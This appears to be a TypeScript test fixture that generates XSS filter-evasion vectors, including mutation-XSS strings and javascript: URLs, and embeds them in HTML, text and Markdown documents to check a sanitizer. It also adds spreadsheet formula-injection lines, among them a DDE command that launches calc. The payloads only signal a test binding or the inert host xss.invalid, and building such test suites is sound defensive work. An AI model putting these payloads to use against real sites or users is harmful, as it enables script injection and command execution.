// Hostile vectors for the "hostile vectors" figure, written for this harness after the OWASP XSS
// filter-evasion families. Each vector, if it ever runs, calls __xssHit(id) (a Playwright
// binding), raises a dialog, or asks for http://xss.invalid/<id> — all three are counted.
// Elements a user might click carry the text "xss-click"; the harness clicks them.
export type Vector = { id: string; family: string; html: string };

export const SINK_HOST = 'xss.invalid';
const hit = (id: string) => `__xssHit('${id}')`;
const url = (id: string) => `http://${SINK_HOST}/${id}`;

const v = (family: string, entries: [string, (id: string) => string][]): Vector[] =>
  entries.map(([id, make]) => ({ id, family, html: make(id) }));

export const VECTORS: Vector[] = [
  ...v('script', [
    ['s1', (id) => `<script>${hit(id)}</script>`],
    ['s2', (id) => `<SCRIPT SRC=${url(id)}.js></SCRIPT>`],
    ['s3', (id) => `<script/xss src="data:text/javascript,${hit(id)}"></script>`],
    ['s4', (id) => `<<script>${hit(id)}//<</script>`],
    ['s5', (id) => `<scr<script>ipt>${hit(id)}</scr</script>ipt>`],
  ]),
  ...v('event handlers', [
    ['h1', (id) => `<img src=x onerror="${hit(id)}">`],
    ['h2', (id) => `<body onload=${hit(id)}>`],
    ['h3', (id) => `<div onmouseover="${hit(id)}" style="position:fixed;inset:0;z-index:99">xss-hover</div>`],
    ['h4', (id) => `<input autofocus onfocus=${hit(id)}>`],
    ['h5', (id) => `<details open ontoggle=${hit(id)}>x</details>`],
    ['h6', (id) => `<video><source onerror="${hit(id)}"></video>`],
    ['h7', (id) => `<img src=x:alert(1) onerror=alert('${id}')>`],
  ]),
  ...v('javascript: URLs', [
    ['j1', (id) => `<a href="javascript:${hit(id)}">xss-click</a>`],
    ['j2', (id) => `<a href="jav&#x09;ascript:${hit(id)}">xss-click</a>`],
    ['j3', (id) => `<a href="&#106;&#97;vascript:${hit(id)}">xss-click</a>`],
    ['j4', (id) => `<a href=" &#14; javascript:${hit(id)}">xss-click</a>`],
    ['j5', (id) => `<img src="javascript:${hit(id)}">`],
  ]),
  ...v('SVG/MathML', [
    ['v1', (id) => `<svg onload=${hit(id)}>`],
    ['v2', (id) => `<svg><script>${hit(id)}</script></svg>`],
    ['v3', (id) => `<svg><a xlink:href="javascript:${hit(id)}"><text x=20 y=20>xss-click</text></a></svg>`],
    ['v4', (id) => `<svg><animate onbegin=${hit(id)} attributeName=x dur=1s>`],
    ['v5', (id) => `<math><maction actiontype="statusline" xlink:href="javascript:${hit(id)}">xss-click</maction></math>`],
    ['v6', (id) => `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${hit(id)}'/></svg>#x"/></svg>`],
  ]),
  ...v('CSS url()/@import', [
    ['c1', (id) => `<style>@import '${url(id)}.css';</style>`],
    ['c2', (id) => `<div style="background:url(${url(id)}.png)">x</div>`],
    ['c3', (id) => `<style>body{background-image:url("${url(id)}")}</style>`],
    ['c4', (id) => `<link rel=stylesheet href=${url(id)}.css>`],
    ['c5', (id) => `<div style="width:expression(${hit(id)})">x</div>`],
  ]),
  ...v('meta refresh', [
    ['m1', (id) => `<meta http-equiv="refresh" content="0;url=javascript:${hit(id)}">`],
    ['m2', (id) => `<meta http-equiv="refresh" content="0;url=${url(id)}">`],
  ]),
  ...v('base', [
    ['b1', (id) => `<base href="${url(id)}/"><img src="b.png">`],
    ['b2', (id) => `<base href="javascript:${hit(id)}//"><a href="/x">xss-click</a>`],
  ]),
  ...v('iframes/srcdoc', [
    ['i1', (id) => `<iframe srcdoc="&lt;img src=x onerror=top.${hit(id)}&gt;"></iframe>`],
    ['i2', (id) => `<iframe src="${url(id)}"></iframe>`],
    ['i3', (id) => `<iframe src="javascript:top.${hit(id)}"></iframe>`],
    ['i4', (id) => `<frameset><frame src="javascript:top.${hit(id)}"></frameset>`],
  ]),
  ...v('object/embed', [
    ['o1', (id) => `<object data="${url(id)}.swf"></object>`],
    ['o2', (id) => `<embed src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="top.${hit(id)}"/>`).toString('base64')}">`],
    ['o3', (id) => `<object data="javascript:top.${hit(id)}"></object>`],
  ]),
  ...v('forms', [
    ['f1', (id) => `<form action="${url(id)}"><input name=q value=x><button type=submit>xss-click</button></form>`],
    ['f2', (id) => `<form><button formaction="javascript:${hit(id)}">xss-click</button></form>`],
    ['f3', (id) => `<isindex action="javascript:${hit(id)}" type=image>`],
    ['f4', (id) => `<input type=image src="${url(id)}.png">`],
  ]),
  ...v('mutation XSS', [
    ['x1', (id) => `<noscript><p title="</noscript><img src=x onerror=${hit(id)}>"></noscript>`],
    ['x2', (id) => `<svg></p><style><a id="</style><img src=1 onerror=${hit(id)}>">`],
    ['x3', (id) => `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${hit(id)} src=1>">`],
    ['x4', (id) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${hit(id)}>`],
    ['x5', (id) => `<img src="x\` \`<script>${hit(id)}</script>"\` \`>`],
    ['x6', (id) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${hit(id)}&gt;">`],
  ]),
];

export const FAMILIES = [...new Set(VECTORS.map((x) => x.family))];

/** A vector as it appears when written as text in a document (escaped in HTML, raw in text). */
const escapeHtml = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

export type HostileDoc = { key: string; title: string; vectors: Vector[] };

/** Sentences around each vector: a marker word for search, and a quote for the quote detector. */
const prose = (doc: HostileDoc, x: Vector) =>
  `xssmarker ${doc.key} ${x.id}: the council met on Tuesday to discuss the harbour budget and the ferry timetable.`;

export function htmlDoc(doc: HostileDoc): string {
  const parts = doc.vectors.map(
    (x) =>
      `<p>${prose(doc, x)} ${x.html}</p>\n<p>As text: ${escapeHtml(x.html)} xssmarker ${x.id}.</p>\n` +
      `<p>&quot;${escapeHtml(x.html)}&quot; said Foreign Minister Ahmed Salem, speaking about ${x.id}.</p>`,
  );
  return `<!doctype html><html><head><title>${doc.title} <img src=x onerror="${hit('title')}"></title>
<meta name="author" content="&lt;script&gt;${hit('author')}&lt;/script&gt;">
<meta property="og:site_name" content="<img src=x onerror=${hit('site')}>">
<link rel="canonical" href="javascript:${hit('canonical')}">
<meta property="og:url" content="javascript:${hit('ogurl')}">
</head><body onload="${hit('bodyonload')}"><article><h1>${doc.title} &lt;img src=x onerror=${hit('h1')}&gt;</h1>
<p>The harbour council published its winter plan on Tuesday; this article carries hostile markup for a test of ${doc.key}.</p>
${parts.join('\n')}
</article></body></html>`;
}

export function textDoc(doc: HostileDoc): string {
  const parts = doc.vectors.map(
    (x) => `${prose(doc, x)} ${x.html}\n\n"${x.html}" said Foreign Minister Ahmed Salem, speaking about ${x.id}.\n\nوقال الوزير أحمد سالم: «${x.html}» في ${x.id}.`,
  );
  // Spreadsheet formula injection, for the CSV exports: a quote and a paragraph that start with a formula.
  parts.push(`"=HYPERLINK(""${url('csvq')}"",""xss-click"")" said Foreign Minister Ahmed Salem.`);
  parts.push(`@SUM(1+1)*cmd|' /C calc'!A0 xssmarker ${doc.key} formula.`);
  return `${doc.title} <img src=x onerror=${hit('ttitle')}>\n\nThe harbour council published its winter plan on Tuesday; this text carries hostile markup for ${doc.key}.\n\n${parts.join('\n\n')}\n`;
}

/** Markdown: the vectors raw (a Markdown renderer would pass inline HTML), plus a javascript: link. */
export function markdownDoc(doc: HostileDoc): string {
  return `# ${doc.title}\n\n[xss-click](javascript:${hit('mdlink')})\n\n${textDoc(doc).split('\n').slice(2).join('\n')}`;
}

/** Splits the vectors into documents: all in one (CI) or one per family (full). */
export function hostileDocs(channel: string, full: boolean): HostileDoc[] {
  const groups = full ? FAMILIES.map((f) => VECTORS.filter((x) => x.family === f)) : [VECTORS];
  return groups.map((vectors, i) => {
    const key = `${channel}-${i}`;
    return { key, title: `Harbour council plan ${key}`, vectors };
  });
}
